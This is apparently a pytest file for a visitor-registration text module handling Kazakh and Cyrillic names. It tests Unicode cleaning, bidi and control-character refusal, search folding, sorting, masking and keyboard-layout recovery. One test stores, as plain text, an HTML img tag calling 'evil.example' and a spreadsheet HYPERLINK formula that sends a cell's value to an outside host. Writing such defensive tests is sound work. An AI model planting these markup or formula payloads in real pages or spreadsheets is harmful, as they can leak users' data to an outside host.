# SPDX-License-Identifier: Apache-2.0
"""Texts: what is refused, what is found, how it sorts, what is hidden."""

import time
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from frontdesk.domain import text


def code(value: str, *, limit: int = 100, multiline: bool = False) -> str | None:
    _, problem = text.clean(value, "visitor.surname", limit=limit, multiline=multiline)
    return problem.code if problem else None


def test_outer_blanks_go_and_inner_ones_stay() -> None:
    assert text.clean("\t Нұрлан  қызы \r\n", "f", limit=50) == ("Нұрлан  қызы", None)


def test_composed_form_is_stored() -> None:
    assert text.clean("И\u0306", "f", limit=1) == ("Й", None)


@pytest.mark.parametrize(
    "value", ["Ива\0нов", "\x1b[31mИванов", "Ива\nнов", "Ива\tнов", "Ива\x85нов", "Ива\u2028нов", "Иванов\x1d"]
)
def test_control_characters_are_refused(value: str) -> None:
    assert code(value) == "text_control_characters"


def test_several_lines_keep_line_feed_and_tab_only() -> None:
    assert text.clean("бір\r\nекі\rүш\u2028төрт\tбес", "f", limit=50, multiline=True) == (
        "бір\nекі\nүш\nтөрт\tбес",
        None,
    )
    assert code("бір\nекі\x0bүш", multiline=True) == "text_control_characters"


@pytest.mark.parametrize("mark", "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")
def test_bidi_controls_are_refused(mark: str) -> None:
    assert code(f"Иванов{mark}воне") == "text_bidi"
    assert code(f"Иванов\n{mark}воне", multiline=True) == "text_bidi"


@pytest.mark.parametrize("bad", [0xD800, 0xDFFF, 0xFDD0, 0xFDEF, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF])
def test_what_no_program_can_read_is_refused(bad: int) -> None:
    assert code(f"Иван{chr(bad)}") == "text_unreadable"


def test_problem_names_field_and_limit() -> None:
    _, problem = text.clean("Ж" * 10_000, "visitor.given", limit=100)
    assert problem is not None
    assert (problem.field, problem.code, dict(problem.params)) == ("visitor.given", "text_too_long", {"limit": 100})


def test_limit_counts_composed_letters() -> None:
    assert code("И\u0306" * 100) is None
    assert code("И\u0306" * 101) == "text_too_long"
    assert code("Ж" * 100) is None
    assert code("Ж" * 101) == "text_too_long"


def test_markup_and_formulas_are_plain_text() -> None:
    for value in (
        'Иванов <img src="//evil.example/share/a.png">',
        '=HYPERLINK("http://x/?"&A1;"Иванов")',
        'ТОО "Рога & Копыта" <ЖШС>',
    ):
        assert text.clean(value, "f", limit=100) == (value, None)


@pytest.mark.parametrize(
    "value",
    [
        "Ж" * 200_000,
        "a\u0300\u0323" * 66_000,
        "И\u0306" * 100_000,
        "a" + "\u0323\u0300" * 100_000,
        "—" * 199_999 + "И\u0306",
        "\n" * 200_000,
    ],
)
@pytest.mark.parametrize("limit", [100, 200_000])
def test_long_texts_cost_little(value: str, limit: int) -> None:
    started = time.perf_counter()
    text.clean(value, "f", limit=limit, multiline=True)
    assert (
        time.perf_counter() - started < 0.5
    )  # ten times what it may cost; measured under 20 ms, most of it normalising


def test_many_combining_marks_are_refused_before_they_cost() -> None:
    assert code("a" + "\u0323\u0300" * 5_000, limit=20_000) == "text_unreadable"


@given(st.text(max_size=60))
def test_a_cleaned_text_is_clean(value: str) -> None:
    cleaned, problem = text.clean(value, "f", limit=200, multiline=True)
    if problem is None:
        assert unicodedata.is_normalized("NFC", cleaned)
        assert text.clean(cleaned, "f", limit=200, multiline=True) == (cleaned, None)
        cleaned.encode("utf-8")


# --- searching -----------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("kazakh", "plain"), list(zip("әғқңөұүһіё", "агкноуухие", strict=True)))
def test_kazakh_letters_are_found_both_ways(kazakh: str, plain: str) -> None:
    assert text.fold(kazakh) == text.fold(plain) == text.fold(kazakh.upper()) == text.fold(plain.upper())


def test_names_are_found_in_any_case_and_spelling() -> None:
    assert text.fold("Касым") == text.fold("ҚАСЫМ")
    assert text.fold("ӘЛИЯ") == text.fold("Әлия") == text.fold("алия")
    assert text.fold("И\u0306од") == text.fold("Йод") == text.fold("иод")
    assert text.fold("  Иванов\u00a0 Иван ") == "иванов иван"


@pytest.mark.parametrize(("latin", "cyrillic"), list(zip("ABCEHKMOPTXY", "АВСЕНКМОРТХУ", strict=True)))
def test_latin_capitals_in_a_cyrillic_word_are_found(latin: str, cyrillic: str) -> None:
    assert text.fold(f"{latin}лжас") == text.fold(f"{cyrillic}лжас")
    assert text.fold(f"ЖАЛ{latin}") == text.fold(f"ЖАЛ{cyrillic}")


@pytest.mark.parametrize(
    ("impostor", "letter"), [("ə", "ә"), ("ɵ", "ө"), ("θ", "ө"), ("i", "і"), ("h", "һ"), ("a", "а"), ("y", "ү")]
)
def test_impostors_are_found_and_warned_of(impostor: str, letter: str) -> None:
    assert text.fold(f"{impostor}лжас") == text.fold(f"{letter}лжас")
    assert text.mixed_scripts(f"{impostor}лжас")
    assert not text.mixed_scripts(f"{letter}лжас")


def test_latin_names_fold_alike_in_any_case() -> None:
    assert text.fold("Hans MÜLLER") == text.fold("hans müller")


def test_scripts_may_differ_between_words() -> None:
    assert not text.mixed_scripts("Anna Müller-Иванова Əliyev")
    assert not text.mixed_scripts("")


@given(st.text(max_size=40))
def test_folding_twice_changes_nothing(value: str) -> None:
    assert text.fold(text.fold(value)) == text.fold(value)


# --- sorting -------------------------------------------------------------------------------------------------------------------


def test_forty_two_letters_sort_in_alphabet_order() -> None:
    assert len(set(text.KAZAKH_ALPHABET)) == 42
    shuffled = sorted(text.KAZAKH_ALPHABET + text.KAZAKH_ALPHABET.upper())
    assert "".join(sorted(shuffled, key=text.list_key)).lower() == "".join(
        letter * 2 for letter in text.KAZAKH_ALPHABET
    )


def test_names_sort_as_in_a_kazakh_list() -> None:
    names = [
        "Ысқақ",
        "Әлия",
        "Азат",
        "Қасым",
        "Кәрім",
        "Іңкәр",
        "Ибраев",
        "Ёлкин",
        "Еркін",
        "Жанар",
        "Smith",
        "Ўғлы",
        "Яна",
    ]
    expected = [
        "Азат",
        "Әлия",
        "Еркін",
        "Ёлкин",
        "Жанар",
        "Ибраев",
        "Кәрім",
        "Қасым",
        "Ўғлы",
        "Ысқақ",
        "Іңкәр",
        "Яна",
        "Smith",
    ]
    assert sorted(names, key=text.list_key) == expected
    assert sorted(names, key=lambda name: text.list_key(name).encode()) == expected


# --- showing less --------------------------------------------------------------------------------------------------------------


def test_initials() -> None:
    assert text.initials("Әбдіқалықов", "Әлихан", "Серікұлы") == "Әбдіқалықов Ә. С."
    assert text.initials("Нұрланова", "Қарлығаш", None) == "Нұрланова Қ."
    assert text.initials(None, "Сухарто") == "Сухарто"
    assert text.initials("Иванова", "И\u0306ода", " ") == "Иванова Й."
    assert text.initials(None, None) == ""


def test_masks() -> None:
    assert text.mask_iin("921015491234") == "••••••••1234"
    assert text.mask_iin(None) == ""
    assert text.mask_phone("+77012345678") == "+7 701 ••• •• 78"
    assert text.mask_phone("+493012345678") == "+49 •••••••• 78"
    assert text.mask_phone(None) == ""


@given(st.from_regex(r"[0-9]{12}", fullmatch=True))
def test_a_masked_iin_shows_no_birth_date(iin: str) -> None:
    assert text.mask_iin(iin)[:8] == "•" * 8


# --- what the keyboard meant -----------------------------------------------------------------------------------------------------


def test_the_whole_top_row_gives_digits() -> None:
    assert text.digits_from_kazakh_keys('"әіңғ,.үұқ') == "1234567890"
    assert text.digits_from_kazakh_keys("!ӘІҢҒ;:ҮҰҚ") == "1234567890"
    assert text.digits_from_kazakh_keys("1234567890 +()") == "1234567890 +()"


def test_a_scanned_iin_comes_back() -> None:
    assert text.digits_from_kazakh_keys('ұә"қ"ғңұ"әің') == "921015491234"


def test_a_scanned_number_comes_back() -> None:
    assert text.undo_kazakh_layout("ЛДЫөәқә,өқққңіә") == "KLS-2026-000432"
    assert text.undo_kazakh_layout("ЛДЫ-2026-000432") == "KLS-2026-000432"


@given(st.lists(st.text() | st.text("абвӘәҚқ  -№«»Az9\u0301\u00a0\u3164\u200d"), max_size=5))
def test_what_is_plain_needs_no_cleaning(texts: list[str]) -> None:
    if text.plain(texts):
        for one in texts:
            assert text.clean(one, "f", limit=max(1, len(one))) == (one, None)


def test_ordinary_texts_are_plain() -> None:
    assert text.plain(["Әбдіқалықов", "ул. Мира, 17-3", "«Келес» ЖШС № 5 — I/2", "+7 701 000 00 00", "a@b.kz"])
    for refused in ("", " ", "а  б", " а", "а ", "а\tб", "а\nб", "и\u0306", "а\u200bб", "\u3164", "а\u00a0б"):
        assert not text.plain([refused]), repr(refused)
